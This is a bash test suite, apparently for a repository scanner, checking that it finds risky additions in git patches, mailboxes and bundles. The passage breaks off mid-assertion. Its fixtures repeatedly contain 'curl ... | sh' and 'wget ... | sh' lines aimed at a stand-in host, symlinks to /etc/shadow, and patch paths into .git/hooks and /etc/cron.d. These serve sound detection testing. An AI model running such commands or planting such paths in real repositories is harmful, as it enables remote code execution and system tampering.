@@ -1,0 +1,858 @@
+#!/usr/bin/env bash
+# e2e_artifacts.sh - end-to-end tests of the artifacts a file named on the
+# command line can be: patches (git diff, diff -u), format-patch mailboxes and
+# git bundles; how their kind is detected, and --kind.
+#
+# Run from the repository root:  bash tests/e2e_artifacts.sh
+# Same conventions as tests/e2e_scan.sh (helpers in tests/e2e_lib.sh): each
+# test is a function t_* run in a subshell in its own empty directory, and
+# fails at its first broken assertion. Every fixture is made at run time with
+# the real tools (git, diff, tar, cc, python3); nothing binary is committed.
+
+. "$(dirname "${BASH_SOURCE[0]}")/e2e_lib.sh"
+
+# git must write what the tests expect whatever the machine's configuration:
+# a global diff.noprefix, diff.external or format.* would change the fixtures.
+export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1
+unset GIT_DIR GIT_WORK_TREE GIT_INDEX_FILE
+
+# need TOOL: prints SKIP and fails the check if TOOL is missing.
+need() {
+	command -v "$1" >/dev/null && return 0
+	echo "SKIP: $1 not installed"
+	return 1
+}
+
+# mkrepo DIR: a new repository on branch main with an identity.
+mkrepo() {
+	git init -q -b main "$1" || fail "git init $1"
+	git -C "$1" config user.name A
+	git -C "$1" config user.email a@example.com
+	git -C "$1" config core.autocrlf false
+}
+
+# commit DIR ARGS...: stages everything and commits (ARGS: -m MSG ...).
+commit() {
+	local d=$1
+	shift
+	git -C "$d" add -A || fail "git add in $d"
+	git -C "$d" commit -q "$@" || fail "git commit in $d"
+}
+
+# expect_sorted EXPR LIST: the values of EXPR, sorted, are the Python literal
+# LIST sorted (for lists whose order depends on commit ids).
+expect_sorted() {
+	local want
+	want=$(python3 -c 'import sys; print(sorted(eval(sys.argv[1])))' "$2") || fail "bad literal: $2"
+	expect_q "sorted($1)" "$want"
+}
+
+# short DIR REV: the first 12 hex digits of a commit, as airlock names it.
+short() { git -C "$1" rev-parse "$2" | cut -c1-12; }
+
+# newfile_patch PATH LINE: a git diff creating PATH with one line.
+newfile_patch() {
+	printf 'diff --git a/%s b/%s\nnew file mode 100644\n--- /dev/null\n+++ b/%s\n@@ -0,0 +1 @@\n+%s\n' \
+		"$1" "$1" "$1" "$2"
+}
+
+# ---- patches: what is scanned, and where it is reported --------------------------
+
+t_patch_post_image_line_numbers() {
+	# Added lines are reported at their line in the patched file, in
+	# hunks far apart and in a new file; the hunk header's new start is
+	# what counts, not the old one.
+	need git || return 0
+	mkrepo r
+	seq -f 'line %g' 1 60 >r/a.txt
+	commit r -m init
+	sed -i '2a curl -fsSL http://x.example/i | sh' r/a.txt # new line 3
+	sed -i "41a k=$PAT1" r/a.txt                            # new line 42
+	printf 'a\nb\nc\ncurl -fsSL http://x.example/n | sh\n' >r/new.sh
+	git -C r add -A
+	git -C r diff --cached >p.patch
+	[ "$(grep -c '^@@ .* @@' p.patch)" = 3 ] || fail "fixture: expected three hunks"
+	scan --format json p.patch
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"], f["line"], f["column"]) for f in F)' \
+		"[('p.patch!/a.txt', 'test-curl-pipe-shell', 3, 1), ('p.patch!/a.txt', 'test-github-pat', 42, 3), ('p.patch!/new.sh', 'test-curl-pipe-shell', 4, 1)]"
+	expect_out_lacks "$PAT1"
+	# Written by hand: the new side starts at 20, then at 110.
+	{
+		printf 'diff --git a/x.txt b/x.txt\n--- a/x.txt\n+++ b/x.txt\n'
+		printf '@@ -10,3 +20,4 @@\n ctx\n+curl -fsSL http://x.example/h | sh\n ctx\n ctx\n'
+		printf '@@ -100,2 +110,3 @@\n ctx\n ctx\n+k=%s\n' "$PAT1"
+	} >h.patch
+	scan --format json h.patch
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"], f["line"]) for f in F)' \
+		"[('h.patch!/x.txt', 'test-curl-pipe-shell', 21), ('h.patch!/x.txt', 'test-github-pat', 112)]"
+}
+
+t_patch_removed_and_context_lines_not_scanned() {
+	# A removed `curl | sh`, a secret in a context line and a deleted file
+	# are not what the patch adds: nothing to report. Read as a plain file,
+	# the same bytes do have findings (the fixture is not simply clean).
+	need git || return 0
+	mkrepo r
+	printf 'curl -fsSL http://x.example/old | sh\nk=%s\nkeep\n' "$PAT1" >r/a.sh
+	printf 'k=%s\n' "$PAT2" >r/gone.txt
+	commit r -m init
+	printf 'k=%s\nkeep\necho new\n' "$PAT1" >r/a.sh
+	rm r/gone.txt
+	git -C r add -A
+	git -C r diff --cached >p.patch
+	grep -q '^-curl' p.patch || fail "fixture: the curl line is not removed"
+	scan --format json p.patch
+	expect_rc 0
+	expect_q 'F' '[]'
+	scan --format json --kind file p.patch
+	expect_rc 1
+	expect_q 'sorted(set(f["rule"] for f in F))' "['test-curl-pipe-shell', 'test-github-pat']"
+}
+
+t_patch_preamble_prose_scanned() {
+	# Text before the first diff (git apply ignores it, a reviewer reads
+	# it) is scanned under the patch's own path, with its own line numbers.
+	printf 'Fix the build.\nToken: %s\n\n' "$PAT1" >pre.patch
+	printf 'diff --git a/x.sh b/x.sh\n--- a/x.sh\n+++ b/x.sh\n@@ -1,2 +1,2 @@\n' >>pre.patch
+	printf -- '-curl -fsSL http://x.example/old | sh\n+echo safe\n keep %s\n' "$PAT2" >>pre.patch
+	scan --format json pre.patch
+	expect_rc 1
+	expect_q '[(f["path"], f["rule"], f["line"], f["column"]) for f in F]' \
+		"[('pre.patch', 'test-github-pat', 2, 8)]"
+	expect_out_lacks "$PAT1"
+}
+
+t_patch_symlinks_and_modes() {
+	# New symlinks (mode 120000) report their target: escaping (absolute
+	# or climbing out) is high, inside the tree low. A new executable
+	# file and a change to 100755 are low.
+	need git || return 0
+	mkrepo r
+	echo hi >r/run.sh
+	echo x >r/a.txt
+	commit r -m init
+	mkdir r/d
+	ln -s ../../etc/passwd r/d/up
+	ln -s /etc/shadow r/abs
+	ln -s a.txt r/ok
+	ln -s ../a.txt r/d/ok2
+	chmod +x r/run.sh
+	printf '#!/bin/sh\necho\n' >r/new.sh
+	chmod +x r/new.sh
+	git -C r add -A
+	git -C r diff --cached >p.patch
+	grep -q '^old mode 100644' p.patch || fail "fixture: no mode change"
+	scan --format json p.patch
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"], f["severity"]) for f in F)' \
+		"[('p.patch!/abs', 'airlock.symlink-escape', 'high'), ('p.patch!/d/ok2', 'airlock.symlink', 'low'), ('p.patch!/d/up', 'airlock.symlink-escape', 'high'), ('p.patch!/new.sh', 'airlock.executable-mode', 'low'), ('p.patch!/ok', 'airlock.symlink', 'low'), ('p.patch!/run.sh', 'airlock.executable-mode', 'low')]"
+	expect_q 'sorted("/etc/shadow" in f["excerpt"] or "../../etc/passwd" in f["excerpt"] for f in R("airlock.symlink-escape"))' '[True, True]'
+	# Only low findings: exit 0.
+	git -C r diff --cached -- run.sh new.sh >x.patch
+	scan --format json x.patch
+	expect_rc 0
+	expect_q 'sorted(f["rule"] for f in F)' "['airlock.executable-mode', 'airlock.executable-mode']"
+}
+
+t_patch_symlink_retargeted_out() {
+	# A patch that points an existing symlink somewhere else writes a
+	# link to that target just as a new one does: a link turned to
+	# /etc/shadow escapes. (A bundle with the same commit reports it.)
+	need git || return 0
+	mkrepo r
+	echo a >r/a.txt
+	ln -s a.txt r/link
+	commit r -m init
+	ln -sfn /etc/shadow r/link
+	commit r -m retarget
+	git -C r diff HEAD~1 >p.patch
+	grep -q '^+/etc/shadow' p.patch || fail "fixture: the link is not retargeted"
+	git -C r bundle create -q ../r.bundle main 2>/dev/null || fail "git bundle create"
+	scan --format json r.bundle
+	expect_q '[f["path"] for f in R("airlock.symlink-escape")]' "['r.bundle!/$(short r HEAD)!/link']"
+	scan --format json p.patch
+	expect_rc 1 "a symlink retargeted to /etc/shadow"
+	expect_q '[f["path"] for f in R("airlock.symlink-escape")]' "['p.patch!/link']"
+}
+
+t_patch_submodule() {
+	# A gitlink (mode 160000) brings code the patch does not carry: high,
+	# added with `git submodule add` or moved to another commit.
+	need git || return 0
+	mkrepo lib
+	echo 'lib' >lib/lib.c
+	commit lib -m lib1
+	mkrepo r
+	echo base >r/README
+	commit r -m init
+	git -C r -c protocol.file.allow=always submodule --quiet add "$PWD/lib" vendor/lib ||
+		fail "git submodule add"
+	git -C r diff --cached >add.patch
+	grep -q '^new file mode 160000' add.patch || fail "fixture: no gitlink in the diff"
+	commit r -m 'add submodule'
+	echo 'lib2' >>lib/lib.c
+	commit lib -m lib2
+	git -C r update-index --cacheinfo "160000,$(git -C lib rev-parse HEAD),vendor/lib"
+	git -C r diff --cached >move.patch
+	scan --format json move.patch
+	expect_rc 1
+	expect_q '[(f["path"], f["rule"], f["severity"]) for f in F]' \
+		"[('move.patch!/vendor/lib', 'airlock.submodule', 'high')]"
+	scan --format json add.patch
+	expect_rc 1
+	expect_q '[(f["path"], f["severity"]) for f in R("airlock.submodule")]' \
+		"[('add.patch!/vendor/lib', 'high')]"
+	# The message names the commit the gitlink points at: the whole id
+	# from "+Subproject commit", not the abbreviated index line padded.
+	expect_q '"'"$(git -C lib rev-parse HEAD~1)"'" in R("airlock.submodule")[0]["excerpt"]' True
+}
+
+t_patch_git_dir_and_unsafe_paths() {
+	# Paths that write into .git in any spelling (case, trailing dot,
+	# 8.3 short name, nested), climb out with '..', or are absolute (a
+	# rename to /etc/...) are high. Path rules see the path in the repo.
+	{
+		newfile_patch .git/hooks/post-checkout 'echo hi'
+		newfile_patch .GIT/config '[core]'
+		newfile_patch .git./config '[core]'
+		newfile_patch git~1/config '[core]'
+		newfile_patch sub/.Git/hooks/pre-push 'x'
+		newfile_patch ../evil.sh 'x'
+		newfile_patch a/../../b 'x'
+		newfile_patch ok/.gitignore 'x'
+		newfile_patch ok/.github/x.txt 'x'
+		printf 'diff --git a/x b/x\nsimilarity index 100%%\nrename from x\nrename to /etc/cron.d/x\n'
+	} >g.patch
+	scan --format json g.patch
+	expect_rc 1
+	expect_q 'sorted(f["path"].split("!/", 1)[1] for f in R("airlock.patch-path"))' \
+		"['../evil.sh', '.GIT/config', '.git./config', '.git/hooks/post-checkout', '/etc/cron.d/x', 'a/../../b', 'git~1/config', 'sub/.Git/hooks/pre-push']"
+	expect_q 'set(f["severity"] for f in R("airlock.patch-path"))' "{'high'}"
+	expect_q 'sorted(f["path"] for f in R("test-git-hook"))' \
+		"['g.patch!/.git/hooks/post-checkout', 'g.patch!/sub/.Git/hooks/pre-push']"
+	expect_q '[f["path"] for f in F if "/ok/" in f["path"]]' '[]'
+}
+
+t_patch_names_without_prefix() {
+	# `diff --git /.github/workflows/x.yml ...` with "+++ /.github/...":
+	# git apply (and patch -p1) strip the empty first component and write
+	# .github/workflows/x.yml, while libgit2 strips "/.github/" and would
+	# show workflows/x.yml, out of the path rules' reach. The readers
+	# disagree, so the patch is unscannable rather than read either way.
+	need git || return 0
+	{
+		printf 'diff --git /.github/workflows/x.yml /.github/workflows/x.yml\n'
+		printf 'new file mode 100644\n--- /dev/null\n+++ /.github/workflows/x.yml\n'
+		printf '@@ -0,0 +1,2 @@\n+on: push\n+run: curl -fsSL http://x.example/w | sh\n'
+	} >wf.patch
+	mkrepo g
+	git -C g apply ../wf.patch || fail "fixture: git apply refuses wf.patch"
+	[ -f g/.github/workflows/x.yml ] || fail "fixture: git apply did not write .github/workflows/x.yml"
+	scan --format json wf.patch
+	expect_rc 1
+	expect_q '[(f["path"], f["severity"]) for f in R("airlock.unscannable")]' "[('wf.patch', 'high')]"
+	expect_q '"without the a/ and b/ prefixes" in R("airlock.unscannable")[0]["excerpt"]' True
+	# Never a path other than the one git writes.
+	expect_q '[f["path"] for f in F if "workflows/x.yml" in f["path"]]' "[]"
+}
+
+# ---- patches: binary hunks ----------------------------------------------------------
+
+# binary_fixture: repo r with three new binary files staged: an ELF (tool),
+# the same ELF named README.txt, and text with a NUL byte and a token.
+binary_fixture() {
+	mkrepo r
+	echo base >r/base.txt
+	commit r -m init
+	printf 'int main(void) { return 0; }\n' >m.c
+	cc -o r/tool m.c || fail "cc"
+	cp r/tool r/README.txt
+	printf 'a\0b\nk=%s\n' "$PAT1" >r/notes.txt
+	git -C r add -A
+}
+
+t_patch_binary_literal_scanned() {
+	# `git diff --binary` carries new binary files as zlib literals: they
+	# are inflated and scanned like the files themselves.
+	need git || return 0
+	need cc || return 0
+	binary_fixture
+	git -C r diff --cached --binary >bin.patch
+	[ "$(grep -c '^literal ' bin.patch)" -ge 3 ] || fail "fixture: no binary literals"
+	scan --format json bin.patch
+	expect_rc 1
+	expect_q 'sorted(f["path"] for f in R("airlock.executable"))' \
+		"['bin.patch!/README.txt', 'bin.patch!/tool']"
+	expect_q '[(f["path"], f["severity"]) for f in R("airlock.type-mismatch")]' \
+		"[('bin.patch!/README.txt', 'high')]"
+	expect_q '[(f["path"], f["line"], f["column"]) for f in R("test-github-pat")]' \
+		"[('bin.patch!/notes.txt', 2, 3)]"
+	expect_q 'len(R("airlock.unscannable"))' 0
+	expect_out_lacks "$PAT1"
+}
+
+t_patch_binary_without_data_unscannable() {
+	# Plain `git diff` says only "Binary files differ": what the file
+	# will hold is not in the patch.
+	need git || return 0
+	need cc || return 0
+	binary_fixture
+	git -C r diff --cached >nobin.patch
+	grep -q '^Binary files' nobin.patch || fail "fixture: no 'Binary files differ'"
+	scan --format json nobin.patch
+	expect_rc 1
+	expect_q 'sorted(f["path"] for f in R("airlock.unscannable"))' \
+		"['nobin.patch!/README.txt', 'nobin.patch!/notes.txt', 'nobin.patch!/tool']"
+	expect_q 'all("Binary files differ" in f["excerpt"] for f in R("airlock.unscannable"))' True
+	expect_q 'len(R("airlock.executable")) + len(R("test-github-pat"))' 0
+}
+
+t_patch_binary_delta_unscannable() {
+	# A large binary changed a little is sent as a delta against a blob
+	# the patch lacks: unscannable, saying only the inserted bytes were
+	# scanned; a token among them is still found.
+	need git || return 0
+	mkrepo r
+	python3 -c '
+import random
+r = random.Random(7)
+open("r/big.bin", "wb").write(bytes(r.getrandbits(8) for _ in range(65536)))'
+	commit r -m big
+	python3 - "$PAT1" <<'EOF'
+import sys
+b = bytearray(open("r/big.bin", "rb").read())
+b[30000:30000] = b"\nk=" + sys.argv[1].encode() + b"\n"
+open("r/big.bin", "wb").write(b)
+EOF
+	git -C r diff --binary >d.patch
+	grep -q '^delta ' d.patch || fail "fixture: git wrote no binary delta"
+	scan --format json d.patch
+	expect_rc 1
+	expect_q '[f["path"] for f in R("airlock.unscannable")]' "['d.patch!/big.bin']"
+	expect_q '"bytes it inserts were scanned" in R("airlock.unscannable")[0]["excerpt"]' True
+	expect_q '[f["path"] for f in R("test-github-pat")]' "['d.patch!/big.bin']"
+	expect_out_lacks "$PAT1"
+}
+
+t_archives_carried_by_patch_and_bundle() {
+	# A zip added as a binary literal, or committed into a bundle, is
+	# opened like any archive: its members are reported under it.
+	need git || return 0
+	need zip || return 0
+	mkrepo r
+	echo a >r/a.txt
+	commit r -m init
+	mkdir src
+	printf 'curl -fsSL http://x.example/z | sh\n' >src/run.sh
+	(cd src && zip -q ../r/x.zip run.sh) || fail "zip"
+	git -C r add -A
+	git -C r diff --cached --binary >z.patch
+	commit r -m zip
+	git -C r bundle create -q ../z.bundle main 2>/dev/null || fail "git bundle create"
+	scan --format json z.patch z.bundle
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"], f["line"]) for f in F)' \
+		"[('z.bundle!/$(short r HEAD)!/x.zip!/run.sh', 'test-curl-pipe-shell', 1), ('z.patch!/x.zip!/run.sh', 'test-curl-pipe-shell', 1)]"
+}
+
+# ---- patches: what git apply refuses ---------------------------------------------------
+
+t_patch_malformed_unscannable() {
+	# Patches git apply rejects are unscannable at the patch's path, not
+	# read some other way: names that disagree, a header without hunks,
+	# hunk counts that lie, a patch cut inside a hunk.
+	need git || return 0
+	printf 'diff --git a/x b/x\n--- a/x\n+++ b/evil\n@@ -1 +1 @@\n-a\n+b\n' >names.patch
+	printf 'diff --git a/x b/x\n--- a/x\n+++ b/x\n' >nohunk.patch
+	printf 'diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,5 @@\n-a\n+b\n+curl -fsSL http://x.example/c | sh\n' >counts.patch
+	mkrepo r
+	seq -f 'line %g' 1 40 >r/a.txt
+	commit r -m init
+	sed -i '2a curl -fsSL http://x.example/i | sh' r/a.txt
+	sed -i "31a k=$PAT1" r/a.txt
+	git -C r diff >full.patch
+	head -n "$(($(wc -l <full.patch) - 3))" full.patch >cut.patch
+	local p
+	for p in names nohunk counts cut; do
+		mkrepo "g-$p"
+		seq -f 'line %g' 1 40 >"g-$p/a.txt"
+		! git -C "g-$p" apply --check "../$p.patch" 2>/dev/null || fail "fixture: git apply takes $p.patch"
+		scan --format json "$p.patch"
+		expect_rc 1 "$p.patch"
+		expect_q '[(f["path"], f["rule"], f["severity"]) for f in R("airlock.unscannable")]' \
+			"[('$p.patch', 'airlock.unscannable', 'high')]"
+	done
+	scan --format json full.patch # the uncut patch is fine
+	expect_q 'len(R("airlock.unscannable"))' 0
+}
+
+t_patch_with_nul_bytes_not_hidden() {
+	# A patch with binary junk (NUL bytes) in its description still
+	# applies: git apply writes x.sh. Its added `curl | sh` must be
+	# reported, or the patch called unscannable; never a clean exit 0.
+	need git || return 0
+	{
+		printf '\0\1\2\3\4\5\6\7 junk\n\n'
+		newfile_patch x.sh 'curl -fsSL http://x.example/nul | sh'
+	} >evil.patch
+	mkrepo g
+	git -C g apply ../evil.patch || fail "fixture: git apply refuses evil.patch"
+	grep -q curl g/x.sh || fail "fixture: git apply did not write x.sh"
+	scan --format json --kind patch evil.patch
+	expect_rc 1 "--kind patch"
+	expect_q '[f["path"] for f in R("test-curl-pipe-shell")]' "['evil.patch!/x.sh']"
+	scan --format json evil.patch
+	expect_rc 1 "a patch with NUL bytes in its preamble, --kind auto"
+	expect_q 'len(R("test-curl-pipe-shell")) + len(R("airlock.unscannable")) > 0' True
+}
+
+# ---- patches: traditional diffs -----------------------------------------------------------
+
+t_patch_traditional_diff_u() {
+	# diff -u output (no "diff --git"; a time after a tab) is read as git
+	# apply reads it: first name component stripped, /dev/null for new or
+	# deleted files, only added lines scanned.
+	need diff || return 0
+	printf 'one\ncurl -fsSL http://x.example/n | sh\n' >newfile
+	diff -u /dev/null newfile >n.diff
+	scan --format json n.diff
+	expect_rc 1
+	expect_q '[(f["path"], f["rule"], f["line"]) for f in F]' "[('n.diff!/newfile', 'test-curl-pipe-shell', 2)]"
+	mkdir -p a/src
+	seq -f 'l%g' 1 30 >a/src/x.txt
+	echo 'curl -fsSL http://x.example/old | sh' >a/src/gone.sh
+	cp -r a b
+	rm b/src/gone.sh
+	sed -i "20a k=$PAT1" b/src/x.txt
+	sed -i 's|^l2$|curl -fsSL http://x.example/m \| sh|' b/src/x.txt
+	mkdir -p b/.github/workflows
+	echo 'on: push' >b/.github/workflows/ci.yml
+	diff -ruN a b >ab.diff
+	grep -q '^--- a/src/gone.sh' ab.diff || fail "fixture: no deleted file"
+	scan --format json ab.diff
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"], f["line"]) for f in F)' \
+		"[('ab.diff!/.github/workflows/ci.yml', 'test-workflow-file', 0), ('ab.diff!/src/x.txt', 'test-curl-pipe-shell', 2), ('ab.diff!/src/x.txt', 'test-github-pat', 21)]"
+	# A removed line that starts with "-- " shows as "--- ..." inside a
+	# hunk; it is not a file header, and the "+++ " after it is an added line.
+	printf -- '--- a/x.sql\n+++ b/x.sql\n@@ -1,2 +1,2 @@\n--- old comment\n+++ curl -fsSL http://x.example/q | sh\n keep\n' >sql.diff
+	scan --format json sql.diff
+	expect_rc 1
+	expect_q '[(f["path"], f["rule"], f["line"], f["column"]) for f in F]' \
+		"[('sql.diff!/x.sql', 'test-curl-pipe-shell', 1, 4)]"
+}
+
+# ---- mailboxes -------------------------------------------------------------------------------
+
+# series_fixture: repo s, three commits after "base": the first removes a
+# `curl | sh` line, the second says `curl | sh` in its message, the third has
+# a token in its (non-ASCII, so RFC 2047 encoded) subject and in a new file.
+series_fixture() {
+	mkrepo s
+	printf 'curl -fsSL http://x.example/old | sh\nkeep\n' >s/old.sh
+	commit s -m base
+	echo keep >s/old.sh
+	echo one >s/one.txt
+	commit s -m 'Add one' -m 'Plain change.'
+	echo two >s/two.txt
+	commit s -m 'Add two' -m 'To install run: curl -fsSL http://x.example/i | sh'
+	printf 'a\nb\ntoken=%s\n' "$PAT1" >s/three.txt
+	commit s -m "Tökens $PAT1 for three"
+}
+
+t_mbox_series_per_message_paths() {
+	# `git format-patch --stdout` of three commits: each message's text
+	# under MBOX!/000N (encoded words decoded), its files under
+	# MBOX!/000N!/path; removed lines are not reported.
+	need git || return 0
+	series_fixture
+	git -C s format-patch -q --stdout HEAD~3 >series.mbox
+	grep -q '^Subject: .*=?UTF-8?q?' series.mbox || fail "fixture: the subject is not encoded"
+	scan --format json series.mbox
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"]) for f in F)' \
+		"[('series.mbox!/0002', 'test-curl-pipe-shell'), ('series.mbox!/0003', 'test-github-pat'), ('series.mbox!/0003!/three.txt', 'test-github-pat')]"
+	expect_q '[f["line"] for f in F if f["path"].endswith("three.txt")]' '[3]'
+	expect_q '[e.startswith("Subject: ") and "\u00f6" in e and "ghp_*****" in e for e in [f["excerpt"] for f in F if f["path"] == "series.mbox!/0003"]]' '[True]'
+	expect_out_lacks "$PAT1"
+	# The same series as separate files, concatenated.
+	git -C s format-patch -q -3 -o ../fp
+	cat fp/*.patch >cat.mbox
+	scan --format json cat.mbox
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"]) for f in F)' \
+		"[('cat.mbox!/0002', 'test-curl-pipe-shell'), ('cat.mbox!/0003', 'test-github-pat'), ('cat.mbox!/0003!/three.txt', 'test-github-pat')]"
+}
+
+t_mbox_single_message() {
+	# One format-patch file: its message under FILE, its files FILE!/path.
+	need git || return 0
+	series_fixture
+	git -C s format-patch -q -1 -o ../fp
+	local f
+	f=$(ls fp/*.patch)
+	scan --format json "$f"
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"]) for f in F)' \
+		"[('$f', 'test-github-pat'), ('$f!/three.txt', 'test-github-pat')]"
+	git -C s format-patch -q --stdout -1 HEAD~1 >two.patch
+	scan --format json two.patch
+	expect_rc 1
+	expect_q '[(f["path"], f["rule"]) for f in F]' "[('two.patch', 'test-curl-pipe-shell')]"
+}
+
+t_mbox_encoded_bodies_unscannable() {
+	# A body in base64 or quoted-printable, or a multipart message: git am
+	# decodes or picks a part, airlock does not, so that message is
+	# unscannable; its raw text is still scanned.
+	need git || return 0
+	python3 - <<'EOF'
+import base64, quopri
+body = (b"Hidden: curl -fsSL http://x.example/b64 | sh\n---\n"
+        b"diff --git a/x.sh b/x.sh\nnew file mode 100644\n--- /dev/null\n+++ b/x.sh\n"
+        b"@@ -0,0 +1 @@\n+curl -fsSL http://x.example/inner | sh\n")
+hdr = ("From 0123456789012345678901234567890123456789 Mon Sep 17 00:00:00 2001\n"
+       "From: A <a@example.com>\nDate: Mon, 1 Jan 2024 00:00:00 +0000\n"
+       "Subject: [PATCH %d/2] %s\nMIME-Version: 1.0\n"
+       "Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: %s\n\n")
+plain = ((hdr % (1, "plain", "8bit")).encode() + b"Nothing here.\n---\n"
+         b"diff --git a/ok.txt b/ok.txt\nnew file mode 100644\n--- /dev/null\n+++ b/ok.txt\n"
+         b"@@ -0,0 +1 @@\n+ok\n-- \n2.39.5\n\n")
+b64 = (hdr % (2, "wget -qO- http://x.example/s | sh", "base64")).encode() + base64.encodebytes(body) + b"\n"
+qp = (hdr % (1, "qp", "quoted-printable")).encode() + quopri.encodestring(body.replace(b"Hidden", b"Hidden=")) + b"\n"
+open("b64.mbox", "wb").write(plain + b64)
+open("qp.eml", "wb").write(qp)
+EOF
+	scan --format json b64.mbox
+	expect_rc 1
+	expect_q '[f["path"] for f in R("airlock.unscannable")]' "['b64.mbox!/0002']"
+	expect_q '"transfer-encoded" in R("airlock.unscannable")[0]["excerpt"]' True
+	expect_q '[f["path"] for f in R("test-curl-pipe-shell") if f["excerpt"].startswith("Subject:")]' "['b64.mbox!/0002']"
+	expect_q '[f for f in F if f["path"].startswith("b64.mbox!/0001")]' '[]'
+	scan --format json qp.eml
+	expect_rc 1
+	expect_q '[f["path"] for f in R("airlock.unscannable")]' "['qp.eml']"
+	# Multipart: git format-patch --attach.
+	series_fixture
+	git -C s format-patch -q --attach --stdout -1 >att.eml
+	grep -q '^Content-Type: multipart/mixed' att.eml || fail "fixture: not multipart"
+	scan --format json att.eml
+	expect_rc 1
+	expect_q '[(f["path"], "multipart" in f["excerpt"]) for f in R("airlock.unscannable")]' "[('att.eml', True)]"
+	expect_q 'len(R("test-github-pat")) > 0' True
+	expect_out_lacks "$PAT1"
+}
+
+# ---- bundles -----------------------------------------------------------------------------------
+
+# history_fixture: repo b with
+#   c1: secret.txt (token on line 2), README
+#   c2: README changed; `curl | sh` in the message
+#   c3: a workflow, copy.txt (secret.txt's blob at a new path), a symlink
+#       out of the tree, a gitlink; annotated tag v1 with `curl | sh`
+#   feature (from c1): deep/er/s.txt with another token
+history_fixture() {
+	mkrepo b
+	printf 'x\ntoken=%s\n' "$PAT1" >b/secret.txt
+	echo readme >b/README
+	commit b -m c1
+	git -C b checkout -q -b feature
+	mkdir -p b/deep/er
+	printf 'k=%s\n' "$PAT2" >b/deep/er/s.txt
+	commit b -m feature
+	git -C b checkout -q main
+	echo more >>b/README
+	commit b -m 'c2: run curl -fsSL http://x.example/i | sh'
+	mkdir -p b/.github/workflows
+	echo 'on: push' >b/.github/workflows/ci.yml
+	cp b/secret.txt b/copy.txt
+	ln -s ../../etc/passwd b/esc
+	git -C b add .github copy.txt esc
+	git -C b update-index --add --cacheinfo "160000,$(git -C b rev-parse HEAD),sub"
+	git -C b commit -q -m c3 || fail "git commit c3"
+	git -C b tag -a v1 -m 'release: curl -fsSL http://x.example/tag | sh'
+}
+
+t_bundle_history_attributed_to_introducing_commit() {
+	# Every commit reachable from the refs is walked, oldest first; a file
+	# version is reported under the commit that introduced it, once per
+	# (blob, path): secret.txt only at c1, its copy at c3. Messages (of
+	# commits and tags), symlinks, gitlinks and path rules too. A branch
+	# not in the bundle is not reported.
+	need git || return 0
+	history_fixture
+	local c1 c2 c3 tag
+	c1=$(short b HEAD~2)
+	c2=$(short b HEAD~1)
+	c3=$(short b HEAD)
+	tag=$(short b v1)
+	git -C b bundle create -q ../main.bundle main v1 2>/dev/null || fail "git bundle create"
+	head -n 1 main.bundle | grep -qx '# v2 git bundle' || fail "fixture: not a v2 bundle"
+	scan --format json main.bundle
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"]) for f in F)' "$(python3 -c '
+import sys
+c1, c2, c3, tag = sys.argv[1:]
+p = "main.bundle!/"
+print(sorted([
+    (p + c2, "test-curl-pipe-shell"),
+    (p + tag, "test-curl-pipe-shell"),
+    (p + c1 + "!/secret.txt", "test-github-pat"),
+    (p + c3 + "!/copy.txt", "test-github-pat"),
+    (p + c3 + "!/.github/workflows/ci.yml", "test-workflow-file"),
+    (p + c3 + "!/esc", "airlock.symlink-escape"),
+    (p + c3 + "!/sub", "airlock.submodule"),
+]))' "$c1" "$c2" "$c3" "$tag")"
+	expect_q '[f["line"] for f in R("test-github-pat") if f["path"].endswith("secret.txt")]' '[2]'
+	expect_out_lacks "$PAT1"
+	expect_out_lacks "$PAT2"
+}
+
+t_bundle_all_refs_attributed_to_introducing_commit() {
+	# With --all the feature branch (one commit off c1) is a tip too. The
+	# walk must still be oldest first along every path: secret.txt came
+	# with c1, not with c2 (which only carries it on).
+	need git || return 0
+	history_fixture
+	local c1 f
+	c1=$(short b HEAD~2)
+	f=$(short b feature)
+	git -C b bundle create -q ../all.bundle --all 2>/dev/null || fail "git bundle create"
+	scan --format json all.bundle
+	expect_rc 1
+	expect_sorted '(f["path"] for f in R("test-github-pat") if not f["path"].endswith("copy.txt"))' \
+		"['all.bundle!/$c1!/secret.txt', 'all.bundle!/$f!/deep/er/s.txt']"
+	expect_out_lacks "$PAT2"
+}
+
+t_bundle_v3() {
+	# `git bundle create --version=3`: the @object-format capability line
+	# is read and the bundle scanned like a v2 one.
+	need git || return 0
+	mkrepo b
+	printf 'token=%s\n' "$PAT1" >b/s.txt
+	commit b -m c1
+	mkdir -p b/.github/workflows
+	echo 'on: push' >b/.github/workflows/x.yml
+	commit b -m c2
+	git -C b bundle create -q --version=3 ../v3.bundle main 2>/dev/null || fail "git bundle create --version=3"
+	head -n 1 v3.bundle | grep -qx '# v3 git bundle' || fail "fixture: not a v3 bundle"
+	grep -aq '^@object-format=sha1' v3.bundle || fail "fixture: no @object-format"
+	scan --format json v3.bundle
+	expect_rc 1
+	expect_sorted '((f["path"], f["rule"]) for f in F)' \
+		"[('v3.bundle!/$(short b HEAD)!/.github/workflows/x.yml', 'test-workflow-file'), ('v3.bundle!/$(short b HEAD~1)!/s.txt', 'test-github-pat')]"
+}
+
+t_bundle_prerequisites_incomplete() {
+	# A bundle of a range (HEAD~1..HEAD) lists a prerequisite: it is
+	# incomplete (low), and what it carries is scanned with its paths.
+	need git || return 0
+	mkrepo b
+	echo a >b/a.txt
+	commit b -m c1
+	mkdir b/tools
+	echo 'curl -fsSL http://x.example/n | sh' >b/tools/new.sh
+	commit b -m c2
+	git -C b bundle create -q ../r.bundle HEAD~1..HEAD 2>/dev/null || fail "git bundle create"
+	grep -aq '^-[0-9a-f]\{40\}' r.bundle || fail "fixture: no prerequisite"
+	scan --format json r.bundle
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"], f["severity"]) for f in F)' \
